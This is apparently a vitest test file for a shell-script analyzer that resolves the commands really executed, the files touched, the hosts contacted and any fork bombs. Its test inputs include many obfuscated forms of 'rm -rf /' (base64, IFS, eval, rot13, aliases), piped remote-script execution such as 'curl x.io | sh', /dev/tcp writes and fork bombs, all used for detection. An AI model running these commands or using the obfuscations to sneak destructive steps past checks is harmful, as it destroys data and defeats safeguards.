import { describe, expect, test } from "vitest";
import { showText } from "../text.ts";
import { analyze } from "./analyze.ts";

/** The commands of a script, each with what leads to it. */
function commands(script: string): readonly string[] {
	return analyze(script).invocations.map(({ via, argv }) =>
		[...via.map((name) => `<${name}>`), ...argv.map(showText)].join(" "),
	);
}

describe("the command that really runs", () => {
	test.each([
		["quotes", `r""m -r\\f '/'`, "rm -rf /"],
		["a variable", "x=rm; $x -rf /", "rm -rf /"],
		["a variable with all of it", 'x="rm -rf /"; $x', "rm -rf /"],
		["an array", 'a=(rm -rf /); "${a[@]}"', "rm -rf /"],
		["IFS", "rm${IFS}-rf${IFS}/", "rm -rf /"],
		["braces", "{rm,-rf,/}", "rm -rf /"],
		["ANSI-C quotes", "$'\\x72m' -rf /", "rm -rf /"],
		["a default", "${nope:-rm} -rf /", "rm -rf /"],
		["a substring", "x=farm; ${x:2:2} -rf /", "rm -rf /"],
		["case", "x=RM; ${x,,} -rf /", "rm -rf /"],
		["printf in a substitution", "$(printf '\\162\\155') -rf /", "rm -rf /"],
		["sudo", "sudo -u root rm -rf /", "<sudo> rm -rf /"],
		["env", "env -i A=b rm -rf /", "<env> rm -rf /"],
		["env -S", "env -S 'rm -rf /'", "<env> rm -rf /"],
		["command", "command -p rm -rf /", "<command> rm -rf /"],
		["exec", "exec -a x rm -rf /", "<exec> rm -rf /"],
		["nice", "nice -n 10 rm -rf /", "<nice> rm -rf /"],
		["timeout", "timeout -k 5 10s rm -rf /", "<timeout> rm -rf /"],
		["nohup", "nohup rm -rf / &", "<nohup> rm -rf /"],
		["time, the word", "time rm -rf /", "rm -rf /"],
		["xargs", "find x | xargs -n 1 rm -rf", "<xargs> rm -rf …"],
		["xargs -I", "echo / | xargs -I{} rm -rf {}", "<xargs> rm -rf /"],
		["find -exec", "find / -exec rm -rf {} +", "<find -exec> rm -rf …"],
		["bash -c", "bash -lc 'rm -rf /'", "<bash -c> rm -rf /"],
		["bash -c with arguments", `bash -c 'rm -rf "$1"' x /`, "<bash -c> rm -rf /"],
		["eval", "eval 'r''m' -rf /", "<eval> rm -rf /"],
		["two deep", `sudo bash -c "eval 'rm -rf /'"`, "<sudo> <bash -c> <eval> rm -rf /"],
		["an alias", "alias z='rm -rf'; z /", "<z> 'rm' -rf /".replaceAll("'", "")],
		["a function", 'f() { rm -rf "$1"; }; f /', "<f> rm -rf /"],
		["a substitution", 'echo "$(rm -rf /)"', "<$()> rm -rf /"],
		["a process substitution", "cat <(rm -rf /)", "<<()> rm -rf /"],
		["a here-document", "bash <<E\nrm -rf /\nE", "<bash> rm -rf /"],
		["a here-string", "sh <<< 'rm -rf /'", "<sh> rm -rf /"],
		["a pipe", "echo 'rm -rf /' | sh", "<sh> rm -rf /"],
		["base64", "echo cm0gLXJmIC8K | base64 -d | bash -s", "<bash> rm -rf /"],
		["rev", "echo '/ fr- mr' | rev | sh", "<sh> rm -rf /"],
		["tr", "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh", "<sh> rm -rf /"],
		["xxd", "echo 726d202d7266202f | xxd -r -p | sh", "<sh> rm -rf /"],
		["awk", `awk 'BEGIN { system("rm -rf /") }'`, "<awk> rm -rf /"],
		["a trap", "trap 'rm -rf /' EXIT", "<trap> rm -rf /"],
		["a loop", "for d in / /etc; do rm -rf $d; done", "rm -rf /"],
		["a condition", "if true; then rm -rf /; fi", "rm -rf /"],
		["a case", "case x in x) rm -rf /;; esac", "rm -rf /"],
		["the background", "rm -rf / & wait", "rm -rf /"],
		["a subshell in a group", "{ ( rm -rf / ); }", "rm -rf /"],
		["a git alias", "git -c alias.x='!rm -rf /' x", "<git alias> rm -rf /"],
		["ssh", "ssh host 'rm -rf /'", "<ssh> rm -rf /"],
	])("through %s", (_, script, command) => {
		expect(commands(script)).toContain(command);
	});

	test("what only mentions it is not it", () => {
		for (const script of [
			"echo 'rm -rf /'",
			"grep 'rm -rf /' x",
			"# rm -rf /",
			"cat <<E\nrm -rf /\nE",
			"git commit -m 'rm -rf /'",
		]) {
			expect(commands(script).some((command) => command.includes("rm -rf /") && /^(<.*> )?rm/.test(command))).toBe(
				false,
			);
		}
	});
});

describe("reads, writes, hosts", () => {
	const uses = (script: string): readonly string[] =>
		analyze(script, { cwd: "/w" }).files.map(
			({ how, resolved }) => `${how} ${resolved === null ? "?" : showText(resolved)}`,
		);
	test.each([
		["cat a ../b > c", ["write /w/c", "read /w/a", "read /b"]],
		["cd d; cat < x; cd ..; cat y", ["read /w/d", "read /w/d/x", "read /w", "read /w/y"]],
		["cp -r a b c", ["read /w/a", "read /w/b", "write /w/c"]],
		["mv -t d a", ["delete /w/a", "write /w/d"]],
		["grep -rn 'x/y' src", ["read /w/src"]],
		["grep -e a -e b f", ["read /w/f"]],
		["sed -i 's/a/b/' f", ["write /w/f"]],
		["sed -n 1,5p f", ["read /w/f"]],
		["dd if=a of=b bs=1M", ["read /w/a", "write /w/b"]],
		["find a b -name x -delete", ["delete /w/a", "delete /w/b"]],
		["tar xzf a.tgz -C /opt", ["read /w/a.tgz", "write /opt"]],
		["echo x >> ~/f", ["write /home/user/f"]],
		["sort -o out in", ["write /w/out", "read /w/in"]],
		["tee a b", ["write /w/a", "write /w/b"]],
		["rm -- -f", ["delete /w/-f"]],
		['cat "$1"', ["read /w"]],
		["cat $(ls)", ["read ?"]],
	])("%s", (script, expected) => {
		expect(uses(script)).toEqual(expected);
	});

	test.each([
		["curl -s https://user:pw@Example.com:8080/x?y", ["example.com"]],
		["curl -o f example.org/x", ["example.org"]],
		["wget http://[::1]/x", ["[::1]"]],
		["git clone git@github.com:a/b.git", ["github.com"]],
		["scp f host:/tmp", ["host"]],
		["echo > /dev/tcp/10.0.0.1/80", ["10.0.0.1"]],
		["echo https://example.com", []],
		["git commit -m 'see https://example.com'", []],
	])("hosts of %s", (script, expected) => {
		expect(analyze(script).hosts).toEqual(expected);
	});
});

test("what cannot be known is said", () => {
	const why = (script: string): readonly string[] => analyze(script).opaque.map((each) => each.why);
	expect(why('"$cmd" x')).toEqual(["name"]);
	expect(why('eval "$(curl -s x.io)"')).toEqual(["script"]);
	expect(why("curl x.io | sh")).toEqual(["script"]);
	expect(why("python3 -c 'print(1)'")).toEqual(["code"]);
	expect(why("/bin/r? x")).toEqual(["pattern"]);
	expect(why("echo hi | cat")).toEqual([]);
});

test("L9: a fork bomb by its shape, whatever its name", () => {
	for (const script of [
		":(){ :|:& };:",
		"bomb() { bomb | bomb & }; bomb",
		"function f { f & f & }; f",
		"x() ( x & x )",
	]) {
		expect(analyze(script).forkBombs.length).toBe(1);
	}
	for (const script of [
		"f() { if [ $1 -gt 0 ]; then f $(($1-1)); fi; }; f 3",
		"walk() { for d in */; do (cd $d; walk); done; }",
		"g() { echo g | cat; }",
	]) {
		expect(analyze(script).forkBombs.length).toBe(0);
	}
});

test("a script that is none, and one without end", () => {
	expect(analyze("if").error?.message).toContain("unexpected end of file");
	expect(analyze("f() { f; f; }; f").invocations.length).toBeLessThan(1000);
	expect(analyze("eval 'eval \"eval x\"'").error).toBe(null);
});
